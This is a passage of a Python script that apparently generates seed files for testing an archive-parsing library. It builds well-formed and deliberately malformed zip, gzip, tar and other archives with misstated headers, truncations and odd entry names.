        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=="
    ),
    "lz": "TFpJUAEMADQZSe6N74yHMfV5ib///90kAADnQm5SFAAAAAAAAAAuAAAAAAAAAA==",
    "zst": "KLUv/SQUdQAAQGhlbGxvLCAKAQDiihEhaZ2H",
    "lz4": "BCJNGGRApxAAAAB0aGVsbG8sIAcAUGVsbG8KAAAAACd7ep8=",
    "Z": "H52QaMqwYfOGBYiAAwseFEhQAQ==",
}


def containers():
    files = {"a": b"hello, hello, hello\n", "b/c": bytes(range(256)) * 3, "d": b""}
    made = archives.recipes(files)
    for name, data in made.items():
        end = name.rsplit(".", 1)[1]
        if end == "gz":
            seed("gzip", name, b"\0" + data)
            seed("gzip", "two-" + name, b"\7" + data + data + b"\0\0more")
            continue
        kinds = {"rar": ["rar5" if name.startswith("new") else "rar"], "zip": ["zip", "zip-stream"]}.get(end, [end])
        for kind in kinds:
            seed("archive", kind + "-" + name, bytes([SOURCES.index(kind), 0]) + data)
    response = b"cc=4,\x82\xa8response\x82\xa4body\xc4\x05hello\xa7headers\x80\xa4vary\x80"
    seed("archive", "http-cache", bytes([len(SOURCES), 3]) + response)
    for kind, text in MADE.items():
        seed("archive", kind, bytes([SOURCES.index(kind), 9]) + base64.b64decode(text))
    packed = archives.gzip.compress(made["ustar.tar"], mtime=0)
    elf = (b"\x7fELF\2\1\1".ljust(32, b"\0") + struct.pack("<Q", 64)).ljust(54, b"\0") + struct.pack("<HH", 56, 1)
    elf = elf.ljust(72, b"\0") + struct.pack("<Q24xQ", 120, 80) + bytes(200 - 112)
    for kind, front in (("script", b"#!/bin/sh\nexit 0\n"), ("elf", elf)):
        seed("archive", "appended-" + kind, bytes([SOURCES.index("appended"), 0]) + front + packed)
    seed("archive", "behind", bytes([SOURCES.index("behind"), 0]) + made["stored.zip"] + packed)
    seed("archive", "unread", bytes([SOURCES.index("unread"), 0]) + b"\x89LZO\0\r\n\x1a\n" + bytes(40))


# --- archives ---


class Stream(io.RawIOBase):
    """A file that cannot be rewound: sizes then stand behind the data."""

    def __init__(self, out):
        self.out = out

    def writable(self):
        return True

    def write(self, data):
        return self.out.write(data)


def zipped(names, stream=False, comment=b"", method=zipfile.ZIP_DEFLATED, large=False):
    out = io.BytesIO()
    with zipfile.ZipFile(Stream(out) if stream else out, "w") as archive:
        for name in names:
            info = zipfile.ZipInfo(name)
            info.compress_type = method
            with archive.open(info, "w", force_zip64=large) as member:
                member.write(f"content of {name}; ".encode() * 3)
        archive.comment = comment
    return out.getvalue()


def zips():
    names = ["a", "dir/b.txt", "dir/ü"]
    plain = zipped(names)
    seed("zip_check", "plain", plain)
    seed("zip_parts", "one", b"\x28\0\x50\0" + plain)
    spanned = bytearray(zipped(names))
    end = spanned.rindex(b"PK\5\6")
    start = struct.unpack("<I", spanned[end + 16:end + 20])[0]
    spanned[end + 4:end + 8] = struct.pack("<HH", 2, 2)
    spanned[end + 16:end + 20] = struct.pack("<I", start - 80)
    seed("zip_parts", "three", b"\x28\0\x50\0" + bytes(spanned))
    seed("zip_parts", "missing", b"\x28\x80\x50\0" + bytes(spanned))
    for number, name in enumerate((b"x.7z.001", b"x.tar.gz.ab", b"X.Z99", b"x.zip", b"x.part01.rar", b"x.r00")):
        seed("part_name", str(number), struct.pack("<I", number) + name)
    seed("zip_check", "stored", zipped(names, method=zipfile.ZIP_STORED))
    seed("zip_check", "streamed", zipped(names, stream=True))
    seed("zip_check", "zip64", zipped(names, large=True))
    seed("zip_check", "zip64-streamed", zipped(names, stream=True, large=True))
    seed("zip_check", "comment", zipped(names, comment=b"c" * 40))
    seed("zip_check", "empty", zipped([]))
    seed("zip_check", "front", b"MZ and a program" + plain)
    seed("zip_check", "back", plain + b"something behind")
    seed("zip_check", "two", plain + zipped(["other"]))
    seed("zip_check", "same-names", zipped(["x/y", "X/y", "x//y", "./x/y", "x\\y"]))
    seed("zip_check", "renamed", plain.replace(b"dir/b.txt", b"dir/c.txt", 1))
    seed("zip_check", "cut", plain[:-30])
    seed("zip_check", "gap", plain.replace(b"PK\1\2", b"x" * 90 + b"PK\1\2", 1))
    end = struct.pack("<IIHHIIH", 0x06054b50, 0, 0xffff, 0xffff, 0xffffffff, 0xffffffff, 0)
    _, _, count, _, size, offset, _ = struct.unpack("<IIHHIIH", plain[-22:])
    seed("zip_check", "zip64-end", plain[:-22] + struct.pack(
        "<IQHHIIQQQQ", 0x06064b50, 44, 45, 45, 0, 0, count, count, size, offset)
        + struct.pack("<IIQI", 0x07064b50, 0, len(plain) - 22, 1) + end)


def member(name, data, method=8, local=b"", central=b"", attributes=0o100644 << 16, system=3, packed=None, **said):
    """An entry, with what its headers say other than the truth."""
    deflate = zlib.compressobj(6, zlib.DEFLATED, -15)
    packed = packed or (deflate.compress(data) + deflate.flush() if method == 8 else data)
    flags, crc = said.get("flags", 0), said.get("crc", zlib.crc32(data))
    numbers = struct.pack("<HHHHIII", flags, method, 0x6c32, 0x5a21, crc, said.get("packed_size", len(packed)),
                          said.get("size", len(data)))
    head = b"PK\3\4" + struct.pack("<H", 20) + numbers + struct.pack("<HH", len(name), len(local)) + name + local
    listed = b"PK\1\2" + struct.pack("<BBH", 20, system, 20) + numbers + struct.pack(
        "<HHHHHI", len(name), len(central), 0, 0, 0, attributes)
    return head + packed, listed, name + central


def joined(*members):
    out, listing = b"", b""
    for data, listed, rest in members:
        listing += listed + struct.pack("<I", len(out)) + rest
        out += data
    return out + listing + struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, len(members), len(members), len(listing), len(out), 0)


def zip_members():
    """What is plain, with one thing that is not in the middle."""
    text = b"".join(b"line %d of a text, and more\n" % i for i in range(600))
    first, last = member(b"first", text), member(b"last", b"stored", method=0)
    times = struct.pack("<HHBI", 0x5455, 5, 1, 1700000000)
    owner = struct.pack("<HHBBIBI", 0x7875, 11, 1, 4, 1000, 4, 1001)
    old = struct.pack("<HHIIHH", 0x5855, 12, 1600000000, 1500000000, 7, 8)
    odd = {
        "plain": member(b"dir/", b"", method=0, attributes=0o40755 << 16),
        "times": member(b"times", text, local=times + owner, central=times + owner),
        "times-old": member(b"times", text, local=old, central=old),
        "times-cut": member(b"times", text, local=times[:6]),
        "dos": member(b"dos", text, system=0, attributes=0x21),
        "link": member(b"link", b"first", method=0, attributes=0o120777 << 16),
        "sum": member(b"sum", text, crc=1),
        "sum-stored": member(b"sum", text, method=0, crc=1),
        "small": member(b"small", text, size=9),
        "large": member(b"large", text, size=90000),
        "short": member(b"short", text, packed_size=40),
        "behind": member(b"behind", text, packed=zlib.compress(text)[2:-4] + b"behind"),
        "damaged": member(b"damaged", text, packed=zlib.compress(text)[2:200] + b"\xff" * 60),
        "cut": member(b"cut", text, packed=zlib.compress(text)[2:400]),
        "method": member(b"method", text, method=9),
        "secret": member(b"secret", text, flags=1),
        "folded": member(b"\xcc\x81e\xcc\x81", text, flags=0x800),
        "letters": member(b"e\xff", text, flags=0x800),
    }
    for name, data in odd.items():
        seed("zip_members", name, joined(first, data, last))
